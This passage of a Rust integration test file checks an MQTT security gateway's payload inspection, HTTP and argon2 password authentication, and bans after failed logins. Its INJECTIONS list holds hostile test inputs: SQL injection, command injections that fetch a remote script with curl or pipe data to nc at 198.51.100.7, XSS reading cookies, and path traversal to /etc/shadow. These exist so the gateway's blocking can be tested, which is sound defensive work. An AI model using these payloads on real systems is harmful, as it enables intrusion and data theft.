    while let Ok(Some(line)) = timeout(WAIT, lines.recv()).await {
        seen.push(line);
    }
    let out = seen.join("\n");
    assert!(
        status.is_some_and(|s| s.success()),
        "mosquitto_sub: {status:?} (None: still running after {WAIT:?}); stdout:\n{out}\n\
         stderr:\n{}",
        sub.stderr()
    );
    let at = |payload: &str| seen.iter().position(|l| l == payload);
    assert!(
        matches!((at(v311), at(v5)), (Some(a), Some(b)) if a < b),
        "mosquitto_sub did not print both payloads, in order; stdout:\n{out}"
    );
}

// ---------------------------------------------------------------------------------
// Edge security (issue 8): inspection, authentication, bans, through the gateway to a
// real mosquitto
// ---------------------------------------------------------------------------------

/// A QoS 0 PUBLISH of `payload` to `topic` (3.1.1).
fn publish_0(topic: &str, payload: &[u8]) -> Vec<u8> {
    common::packet(0x30, &[common::string(topic), payload.to_vec()].concat())
}

/// A raw subscriber straight at the broker (so what it gets is what reached the
/// broker): CONNECT, SUBSCRIBE `filter` at QoS 0.
async fn watcher(broker: SocketAddr, filter: &str) -> TcpStream {
    let mut s = TcpStream::connect(broker).await.unwrap();
    s.write_all(&connect_311("watcher")).await.unwrap();
    assert_eq!(
        timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
        (0x20, vec![0x00, 0x00])
    );
    let subscribe = [&[0x00, 0x01][..], &common::string(filter), &[0x00]].concat();
    s.write_all(&common::packet(0x82, &subscribe))
        .await
        .unwrap();
    assert_eq!(
        timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
        (0x90, vec![0x00, 0x01, 0x00])
    );
    s
}

/// Reads PUBLISH packets until one to `last`: every (topic, payload) before it, in order.
async fn received_until(s: &mut TcpStream, last: &str) -> Vec<(String, Vec<u8>)> {
    let mut got = Vec::new();
    loop {
        let (first, body) = timeout(WAIT, read_packet(s)).await.unwrap().unwrap();
        assert_eq!(first & 0xF0, 0x30, "a PUBLISH");
        let n = usize::from(u16::from_be_bytes([body[0], body[1]]));
        let topic = String::from_utf8(body[2..2 + n].to_vec()).unwrap();
        let payload = body[2 + n..].to_vec();
        if topic == last {
            return got;
        }
        got.push((topic, payload));
    }
}

/// Pseudo-random bytes (xorshift64*), the same every run.
fn random_bytes(n: usize) -> Vec<u8> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..n)
        .map(|_| {
            x ^= x >> 12;
            x ^= x << 25;
            x ^= x >> 27;
            x.wrapping_mul(0x2545_F491_4F6C_DD1D).to_be_bytes()[0]
        })
        .collect()
}

/// Base64 of `bytes` (standard alphabet, padded).
fn base64(bytes: &[u8]) -> Vec<u8> {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    for c in bytes.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(A[(n >> (18 - 6 * i)) as usize & 63]);
            } else {
                out.push(b'=');
            }
        }
    }
    out
}

/// The injection payloads of the issue, each with the default rule that must catch it.
const INJECTIONS: [(&str, &str); 13] = [
    ("name=x' OR '1'='1", "sql_injection"),
    (
        "1 UNION SELECT username, password FROM users",
        "sql_injection",
    ),
    ("42; DROP TABLE devices", "sql_injection"),
    ("fw; cat /etc/passwd", "command_injection"),
    ("$(curl http://198.51.100.7/x.sh)", "command_injection"),
    ("`id`", "command_injection"),
    ("log | nc 198.51.100.7 4444", "command_injection"),
    ("<script>alert(1)</script>", "xss"),
    ("<img src=x onerror=alert(1)>", "xss"),
    ("javascript:alert(document.cookie)", "xss"),
    ("../../../etc/shadow", "path_traversal"),
    ("..\\..\\windows\\win.ini", "path_traversal"),
    ("GET /static/..%2f..%2fsecret", "path_traversal"),
];

/// Issue 8, payload inspection: the issue's injection payloads, a 200 kB payload over a
/// 10 kB limit and 1 kB of random bytes over an entropy threshold of 7.5 never reach the
/// broker; ordinary JSON telemetry (and plain text, and base64 of random bytes) does,
/// byte-exact and in order. Each block is counted by rule and is a security event.
#[tokio::test]
async fn inspection_keeps_injections_big_and_random_payloads_from_the_broker() {
    let broker = Mosquitto::start().await;
    let config = r#"
        [mqtt]
        max_packet_size = 300000
        [inspect]
        default_rules = "block"
        max_payload = 10240
        entropy_threshold = 7.5
        entropy_min_len = 512
    "#;
    let gw = Gateway::start(
        "inspect",
        config,
        &["--upstream", &broker.addr().to_string()],
    )
    .await;
    let mut sub = watcher(broker.addr(), "t/#").await;
    let mut publ = mqtt_session("127.0.0.31", gw.mqtt, "publisher")
        .await
        .unwrap();

    let random = random_bytes(1024);
    let telemetry: Vec<Vec<u8>> = vec![
        br#"{"device":"th-7","temperature":21.5,"humidity":40,"ts":1764115200}"#.to_vec(),
        b"temperature OR humidity = 5".to_vec(),
        br#"{"path":"sensors/room-1/temp","values":[20.5,20.75,21.0],"ok":true}"#.to_vec(),
        base64(&random),
        br#"{"msg":"select a mode; then press start","level":"info"}"#.to_vec(),
    ];
    let mut all = Vec::new();
    for (i, (payload, _)) in INJECTIONS.iter().enumerate() {
        all.push(publish_0("t/in", payload.as_bytes()));
        if let Some(ok) = telemetry.get(i) {
            all.push(publish_0("t/ok", ok));
        }
    }
    all.push(publish_0("t/big", &vec![b'{'; 200_000]));
    all.push(publish_0("t/random", &random));
    all.push(publish_0("t/end", b"end"));
    for p in &all {
        publ.write_all(p).await.unwrap();
    }

    let got = received_until(&mut sub, "t/end").await;
    let expected: Vec<(String, Vec<u8>)> = telemetry
        .iter()
        .map(|p| ("t/ok".to_string(), p.clone()))
        .collect();
    assert_eq!(
        got, expected,
        "only the telemetry reached the broker, exact and in order"
    );

    for rule in [
        "sql_injection",
        "command_injection",
        "xss",
        "path_traversal",
    ] {
        let n = INJECTIONS.iter().filter(|(_, r)| *r == rule).count();
        gw.wait_metric(
            &format!("aegis_mqtt_inspection_total{{rule=\"{rule}\",action=\"block\"}}"),
            n as f64,
        )
        .await;
        let exact = gw
            .metric(&format!(
                "aegis_mqtt_inspection_total{{rule=\"{rule}\",action=\"block\"}}"
            ))
            .await;
        assert_eq!(exact, Some(n as f64), "{rule}");
    }
    for rule in ["max_payload", "entropy"] {
        let series = format!("aegis_mqtt_inspection_total{{rule=\"{rule}\",action=\"block\"}}");
        gw.wait_metric(&series, 1.0).await;
        assert_eq!(gw.metric(&series).await, Some(1.0), "{rule}");
    }
    let dropped = "aegis_mqtt_dropped_total{packet=\"publish\",reason=\"inspection\"}";
    assert_eq!(gw.metric(dropped).await, Some(15.0));

    // Each block is an event with the rule, the client id and no payload.
    let (_, events) = http_get(gw.metrics, "/events?limit=100").await.unwrap();
    let events: serde_json::Value = serde_json::from_str(&events).unwrap();
    let blocks: Vec<_> = events
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "block")
        .collect();
    assert_eq!(blocks.len(), 15, "{events}");
    for (e, (payload, rule)) in blocks.iter().zip(INJECTIONS) {
        assert_eq!(e["rule"], rule, "{e}");
        assert_eq!(e["layer"], "inspect", "{e}");
        assert_eq!(e["client_id"], "publisher", "{e}");
        assert!(!e["details"].as_str().unwrap().contains(payload), "{e}");
    }
    assert_eq!(blocks[13]["rule"], "max_payload");
    assert_eq!(blocks[14]["rule"], "entropy");

    // The publisher's session goes on: a QoS 0 PUBLISH after the blocks arrives.
    publ.write_all(&publish_0("t/ok", b"still here"))
        .await
        .unwrap();
    publ.write_all(&publish_0("t/end", b"end")).await.unwrap();
    assert_eq!(
        received_until(&mut sub, "t/end").await,
        [("t/ok".to_string(), b"still here".to_vec())]
    );
}

/// A 3.1.1 CONNECT with clean session, a username and a password.
fn connect_login(client_id: &str, username: &str, password: &str) -> Vec<u8> {
    let body = [
        &[0x00, 0x04, b'M', b'Q', b'T', b'T', 4, 0xC2, 0x00, 0x3C][..],
        &common::string(client_id),
        &common::string(username),
        &common::string(password),
    ]
    .concat();
    common::packet(0x10, &body)
}

/// A real HTTP auth service (hyper, on loopback): `200` for alice / secret, `401`
/// otherwise. Returns its address and the count of calls.
async fn auth_service() -> (SocketAddr, Arc<AtomicUsize>) {
    use http_body_util::{BodyExt, Full};

    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let calls = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&calls);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let count = Arc::clone(&count);
            let svc =
                hyper::service::service_fn(move |req: hyper::Request<hyper::body::Incoming>| {
                    let count = Arc::clone(&count);
                    async move {
                        count.fetch_add(1, Ordering::SeqCst);
                        let body = req.into_body().collect().await?.to_bytes();
                        let creds: serde_json::Value =
                            serde_json::from_slice(&body).unwrap_or_default();
                        let ok = creds["username"] == "alice" && creds["password"] == "secret";
                        let status = if ok { 200 } else { 401 };
                        let res = hyper::Response::builder()
                            .status(status)
                            .body(Full::new(bytes::Bytes::new()))
                            .unwrap();
                        Ok::<_, hyper::Error>(res)
                    }
                });
            tokio::spawn(
                hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(stream), svc),
            );
        }
    });
    (addr, calls)
}

/// Issue 8, authentication and bans: CONNECTs are checked by a real HTTP auth service;
/// a burst of failed logins from one address bans it (its next connection is closed
/// before any byte is read), while a good client from another address goes on, from
/// the cache; all of it is in `/events` and `/bans`.
#[tokio::test]
async fn a_burst_of_failed_logins_through_an_http_auth_service_bans_the_address() {
    let broker = Mosquitto::start().await;
    let (auth, calls) = auth_service().await;
    let config = format!(
        r#"
        [auth]
        kind = "http"
        url = "http://{auth}/mqtt/auth"
        deny_ttl = "0s"
        [security]
        max_auth_failures = 3
        ban_by = ["addr"]
        "#
    );
    let gw = Gateway::start("auth", &config, &["--upstream", &broker.addr().to_string()]).await;
    let mut sub = watcher(broker.addr(), "a/#").await;

    // alice: allowed, her PUBLISH reaches the broker.
    let mut alice = connect_from("127.0.0.41", gw.mqtt).await;
    alice
        .write_all(&connect_login("alice-1", "alice", "secret"))
        .await
        .unwrap();
    assert_eq!(
        timeout(WAIT, read_packet(&mut alice))
            .await
            .unwrap()
            .unwrap(),
        (0x20, vec![0x00, 0x00])
    );
    alice.write_all(&publish_0("a/x", b"hello")).await.unwrap();
    alice.write_all(&publish_0("a/end", b"")).await.unwrap();
    assert_eq!(
        received_until(&mut sub, "a/end").await,
        [("a/x".to_string(), b"hello".to_vec())]
    );
    assert_eq!(calls.load(Ordering::SeqCst), 1);

    // mallory: four wrong passwords, each refused with CONNACK 0x05 by the service's
    // 401 (denials are not cached here: four calls); the fourth is over 3 and bans.
    for n in 1..=4 {
        let mut s = connect_from("127.0.0.42", gw.mqtt).await;
        s.write_all(&connect_login("m", "alice", &format!("guess{n}")))
            .await
            .unwrap();
        assert_eq!(
            timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
            (0x20, vec![0x00, 0x05]),
            "attempt {n}"
        );
    }
    assert_eq!(calls.load(Ordering::SeqCst), 5);
    gw.wait_metric(
        "aegis_security_bans_total{key=\"addr\",cause=\"auth_failures\"}",
        1.0,
    )
    .await;
    // Banned: even the right password gets nothing, and the service is not asked.
    let login = connect_login("m", "alice", "secret");
    assert!(refused_from("127.0.0.42", gw.mqtt, &login).await);
    assert_eq!(calls.load(Ordering::SeqCst), 5);

    // alice again, from her own address: allowed from the cache (no call).
    let mut again = connect_from("127.0.0.41", gw.mqtt).await;
    again
        .write_all(&connect_login("alice-1", "alice", "secret"))
        .await
        .unwrap();
    assert_eq!(
        timeout(WAIT, read_packet(&mut again))
            .await
            .unwrap()
            .unwrap(),
        (0x20, vec![0x00, 0x00])
    );
    assert_eq!(calls.load(Ordering::SeqCst), 5);
    let hits = "aegis_mqtt_auth_total{result=\"allow\",cache=\"hit\"}";
    gw.wait_metric(hits, 1.0).await;
    let denies = "aegis_mqtt_auth_total{result=\"deny\",cache=\"miss\"}";
    assert_eq!(gw.metric(denies).await, Some(4.0));
    // The callout latency is a Prometheus histogram: five callouts, each in a bucket.
    assert_eq!(
        gw.metric("aegis_mqtt_auth_callout_seconds_count").await,
        Some(5.0)
    );
    assert_eq!(
        gw.metric("aegis_mqtt_auth_callout_seconds_bucket{le=\"+Inf\"}")
            .await,
        Some(5.0)
    );
    assert_eq!(
        gw.metric("aegis_rejections_total{layer=\"mqtt\",reason=\"not_authorized\"}")
            .await,
        Some(4.0)
    );

    // The trail: four auth failures, the ban, the banned connection.
    let (_, events) = http_get(gw.metrics, "/events?limit=100").await.unwrap();
    let events: serde_json::Value = serde_json::from_str(&events).unwrap();
    let kinds: Vec<(&str, &str)> = events
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["kind"].as_str().unwrap(),
                e["rule"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        kinds,
        [
            ("auth_failure", "denied"),
            ("auth_failure", "denied"),
            ("auth_failure", "denied"),
            ("auth_failure", "denied"),
            ("ban", "auth_failures"),
            ("rejection", "banned"),
        ],
        "{events}"
    );
    assert_eq!(events[0]["username"], "alice", "{events}");
    let (_, bans) = http_get(gw.metrics, "/bans").await.unwrap();
    let bans: serde_json::Value = serde_json::from_str(&bans).unwrap();
    assert_eq!(bans[0]["value"], "127.0.0.42/32", "{bans}");
    assert_eq!(bans.as_array().unwrap().len(), 1, "{bans}");
}

/// Issue 8, the static authenticator: a password file of argon2 hashes, read at
/// start-up; the right password connects, a wrong one and an unknown user get 0x05.
#[tokio::test]
async fn a_password_file_of_argon2_hashes_authenticates() {
    let dir = scratch("users");
    let users = dir.join("users.txt");
    let hash = aegis_mqtt::auth::StaticAuth::hash_password(b"s3cret");
    std::fs::write(&users, format!("# test users\nalice:{hash}\n")).unwrap();
    let config = format!("[auth]\nkind = \"file\"\nfile = \"{}\"\n", users.display());
    let gw = Gateway::start("auth-file", &config, &[]).await;
    for (user, password, code) in [
        ("alice", "s3cret", 0x00),
        ("alice", "wrong", 0x05),
        ("bob", "s3cret", 0x05),
    ] {
        let mut s = connect_from("127.0.0.51", gw.mqtt).await;
        s.write_all(&connect_login("c", user, password))
            .await
            .unwrap();
        assert_eq!(
            timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap(),
            (0x20, vec![0x00, code]),
            "{user} / {password}"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);

    // Plain text in the file is refused at start-up, naming the key.
    let dir = scratch("users-plain");
    let users = dir.join("users.txt");
    std::fs::write(&users, "alice:s3cret\n").unwrap();
    let (status, stderr) = run_to_exit(
        "auth-plain",
        &format!("[auth]\nkind = \"file\"\nfile = \"{}\"\n", users.display()),
    );
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("config error: auth.file"), "{stderr}");
    assert!(stderr.contains("line 1"), "{stderr}");
}

/// The gateway's minor page faults so far (`/proc/PID/stat`, field 10).
#[cfg(all(target_os = "linux", target_env = "gnu"))]
fn minor_faults(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    // The command name (field 2) is in parentheses and may hold spaces: count after it.
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    after.split(' ').nth(7).unwrap().parse().unwrap()
}

/// Bulk data through the gateway reuses the proxy's 64 KiB copy buffers: jemalloc keeps
/// them in its thread caches (`tcache_max` in `.cargo/config.toml`). With jemalloc's
/// default (32 KiB), each buffer freed while a direction waited went back to the arena
/// and came back with its pages faulted in again: about 90 minor faults per MiB in
/// `benches/compare.sh`'s bulk run, and about 5,500 for this test's 24 MiB (230 per
/// MiB: the pause after every chunk frees the buffer more often), checked by running it
/// with `_RJEM_MALLOC_CONF=tcache_max:32768`, which the gateway inherits; 1 to 5 with
/// the setting.
#[cfg(all(target_os = "linux", target_env = "gnu"))]
#[tokio::test]
async fn bulk_transfers_reuse_the_copy_buffers_without_page_faults() {
    const CLIENTS: usize = 4;
    const CHUNK: usize = 64 * 1024;
    // A sink upstream: reads everything and counts it.
    let sink = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let upstream = sink.local_addr().unwrap();
    let (got_tx, mut got_rx) = tokio::sync::mpsc::unbounded_channel::<usize>();
    tokio::spawn(async move {
        loop {
            let (mut s, _) = sink.accept().await.unwrap();
            let got = got_tx.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; CHUNK];
                while let Ok(n @ 1..) = s.read(&mut buf).await {
                    let _ = got.send(n);
                }
            });
        }
    });
    let pass_through = "[limits]\nenabled = false\n[slowloris]\nenabled = false\n\
        [sniff]\nenabled = false\n[mqtt]\nenabled = false\n[circuit_breaker]\nenabled = false\n\
        [adaptive]\nenabled = false\n[security]\nenabled = false\n";
    let gw = Gateway::start("bulk", pass_through, &["--upstream", &upstream.to_string()]).await;

    // Each client writes `chunks` chunks of 64 KiB with a pause after each, so that the
    // gateway's reading direction goes idle (and frees its buffer) between bursts.
    let send = |chunks: usize| {
        let to = gw.mqtt;
        async move {
            let clients: Vec<_> = (0..CLIENTS)
                .map(|_| {
                    tokio::spawn(async move {
                        let mut c = TcpStream::connect(to).await.unwrap();
                        let chunk = vec![0x5a_u8; CHUNK];
                        for _ in 0..chunks {
                            c.write_all(&chunk).await.unwrap();
                            sleep(Duration::from_micros(200)).await;
                        }
                    })
                })
                .collect();
            for c in clients {
                c.await.unwrap();
            }
        }
    };
    let mut received = 0;
    let mut wait_for = async |total: usize| {
        while received < total {
            received += timeout(WAIT, got_rx.recv()).await.unwrap().unwrap();
        }
    };
    // Warm-up: the gateway's threads, caches and first buffers.
    send(16).await;
    wait_for(CLIENTS * 16 * CHUNK).await;

    let before = minor_faults(gw.pid());
    send(96).await;
    wait_for(CLIENTS * (16 + 96) * CHUNK).await;
    let faults = minor_faults(gw.pid()) - before;
    // 24 MiB carried; about 5,500 faults without the thread-cache setting.
    assert!(faults < 200, "{faults} minor page faults for 24 MiB");
}
